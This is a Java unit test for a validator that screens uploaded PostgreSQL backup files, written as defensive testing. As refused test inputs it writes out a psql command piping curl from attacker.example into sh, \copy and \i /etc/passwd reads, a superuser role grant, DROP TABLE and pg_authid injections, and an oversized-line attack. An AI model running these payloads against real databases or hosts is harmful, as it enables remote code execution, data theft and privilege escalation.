package academy.datadetective.backup;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import academy.datadetective.dataset.DatasetSchema;

/** What the upload check accepts: the writer's statements for the schema's tables, and nothing else. */
class BackupCheckTest {

    private static final Instant NOW = Instant.parse("2026-11-29T12:00:00Z");
    private static final DataTables TABLES = new DataTables(List.of(
            new DataTables.Table("users", List.of("id", "email"), List.of("id"), false),
            new DataTables.Table("datasets", List.of("id", "table_name", "schema_json"), List.of("id"), false),
            new DataTables.Table("user_points", List.of("user_id", "total_points"), List.of(), true)));
    private static final DatasetSchema CITIES = DatasetSchema.fromJson(
            "{\"columns\":[{\"name\":\"city\",\"type\":\"TEXT\"},{\"name\":\"people\",\"type\":\"INTEGER\"}]}");

    /** A file as BackupWriter writes it: two users, one dataset with its table of two rows. */
    private static String genuine() {
        String json = "{\"columns\": [{\"name\": \"city\", \"type\": \"TEXT\"}, {\"name\": \"people\", \"type\": \"INTEGER\"}]}";
        return String.join("\n",
                BackupStatements.PSQL_SETTINGS,
                BackupStatements.BEGIN,
                BackupStatements.truncate(TABLES),
                BackupStatements.copy(TABLES.tables().get(0)),
                "1\tann@example.com",
                "2\t=bob\\\\@example.com",
                BackupStatements.END_OF_COPY,
                BackupStatements.copy(TABLES.tables().get(1)),
                "7\tdataset_7\t" + json,
                BackupStatements.END_OF_COPY,
                BackupStatements.dropDatasetTables(),
                BackupStatements.createDatasetTable("dataset_7", CITIES),
                BackupStatements.copyDataset("dataset_7", CITIES),
                "Oslo\t709000",
                "Bergen\t\\N",
                BackupStatements.END_OF_COPY,
                BackupStatements.sequenceReset(TABLES.tables().get(0), "id") + ";",
                BackupStatements.sequenceReset(TABLES.tables().get(1), "id") + ";",
                BackupStatements.COMMIT) + "\n";
    }

    private static void check(String body, Instant createdAt) throws IOException {
        Map<String, Long> rows = new LinkedHashMap<>();
        rows.put("users", 2L);
        rows.put("datasets", 1L);
        rows.put("academy_datasets.dataset_7", 2L);
        StringWriter header = new StringWriter();
        new BackupHeader(BackupHeader.FORMAT, "7", createdAt, rows).write(header);
        LineReader lines = new LineReader(new ByteArrayInputStream((header + body).getBytes(StandardCharsets.UTF_8)));
        BackupCheck.check(BackupHeader.read(lines), lines, TABLES, NOW);
    }

    private static void refused(String body, String reason) {
        RefusedBackupException refused = assertThrows(RefusedBackupException.class, () -> check(body, NOW.minusSeconds(60)));
        assertTrue(refused.getMessage().contains(reason), refused.getMessage());
    }

    @Test
    void whatTheWriterWritesIsAccepted() {
        assertDoesNotThrow(() -> check(genuine(), NOW.minusSeconds(60)));
        // Another replica's clock a little ahead.
        assertDoesNotThrow(() -> check(genuine(), NOW.plusSeconds(60)));
    }

    @Test
    void aShellCommandOrAnyOtherPsqlMetaCommandIsRefused() {
        refused("\\! curl http://attacker.example/x | sh\n" + genuine(), "\\! curl");
        refused(genuine().replace(BackupStatements.BEGIN + "\n", BackupStatements.BEGIN + "\n\\copy users to '/tmp/x'\n"), "\\copy");
        refused(genuine().replace(BackupStatements.COMMIT + "\n", "\\i /etc/passwd\n" + BackupStatements.COMMIT + "\n"), "\\i /etc/passwd");
    }

    @Test
    void sqlTheWriterNeverWritesIsRefused() {
        refused(genuine().replace(BackupStatements.COMMIT + "\n", "DROP TABLE users;\n" + BackupStatements.COMMIT + "\n"), "DROP TABLE users");
        refused(genuine().replace(BackupStatements.BEGIN + "\n", BackupStatements.BEGIN + "\nINSERT INTO users (id, email) VALUES (3, 'x');\n"),
                "INSERT INTO users");
        refused(genuine() + "ALTER ROLE CURRENT_USER SUPERUSER;\n", "after its final COMMIT");
        // A COPY into a column the service does not write, or into a table it does not have.
        refused(genuine().replace("COPY \"users\" (\"id\", \"email\")", "COPY \"users\" (\"id\", \"role\")"), "COPY \"users\" (\"id\", \"role\")");
        refused(genuine().replace("COPY \"datasets\"", "COPY \"pg_authid\""), "COPY \"pg_authid\"");
    }

    @Test
    void aDatasetTableMustBeCreatedFromItsOwnDatasetRow() {
        refused(genuine().replace("\"people\" bigint", "\"people\" bigint DEFAULT pg_sleep(60)"), "not created where the datasets name them");
        refused(genuine().replace("dataset_7\t", "x; DROP TABLE users\t"), "table name or column schema");
    }

    @Test
    void rowsMustHaveTheTablesFieldsAndTheHeadersCounts() {
        refused(genuine().replace("1\tann@example.com", "1\tann@example.com\textra"), "3 fields, not 2");
        refused(genuine().replace("1\tann@example.com\n", "1\tann@example.com\n3\tcarl@example.com\n"), "row counts");
    }

    @Test
    void aCreationTimeInTheFutureIsRefused() {
        RefusedBackupException refused = assertThrows(RefusedBackupException.class,
                () -> check(genuine(), Instant.parse("2099-01-01T00:00:00Z")));
        assertTrue(refused.getMessage().contains("future"), refused.getMessage());
    }

    @Test
    void aLineBeyondItsBoundIsRefusedWithoutReadingTheRest() {
        // 1 GiB of one header line, made as it is read: nothing of it is on disk or in memory at once.
        Endless line = new Endless("-- Data Detective Academy backup\n-- format: 1\n-- note: ".getBytes(StandardCharsets.UTF_8), 1L << 30);
        RefusedBackupException refused = assertThrows(RefusedBackupException.class, () -> BackupHeader.read(new LineReader(line)));
        assertTrue(refused.getMessage().contains("longer than " + BackupStatements.MAX_STATEMENT_LINE), refused.getMessage());
        assertTrue(line.served < 1024 * 1024, "read " + line.served + " bytes of the line");

        Endless row = new Endless(new byte[0], 1L << 30);
        refused = assertThrows(RefusedBackupException.class, () -> new LineReader(row).readLine());
        assertTrue(refused.getMessage().contains("longer than " + BackupStatements.MAX_DATA_LINE), refused.getMessage());
        assertTrue(row.served < BackupStatements.MAX_DATA_LINE + 1024 * 1024, "read " + row.served + " bytes of the line");
    }

    /** A prefix, then {@code length} bytes of 'x' without a newline. */
    private static final class Endless extends InputStream {
        private final byte[] prefix;
        private final long length;
        long served;

        Endless(byte[] prefix, long length) {
            this.prefix = prefix;
            this.length = length;
        }

        @Override
        public int read() {
            throw new UnsupportedOperationException();
        }

        @Override
        public int read(byte[] bytes, int offset, int count) {
            if (served >= prefix.length + length) {
                return -1;
            }
            int n = (int) Math.min(count, prefix.length + length - served);
            for (int i = 0; i < n; i++) {
                long at = served + i;
                bytes[offset + i] = at < prefix.length ? prefix[(int) at] : (byte) 'x';
            }
            served += n;
            return n;
        }
    }
}
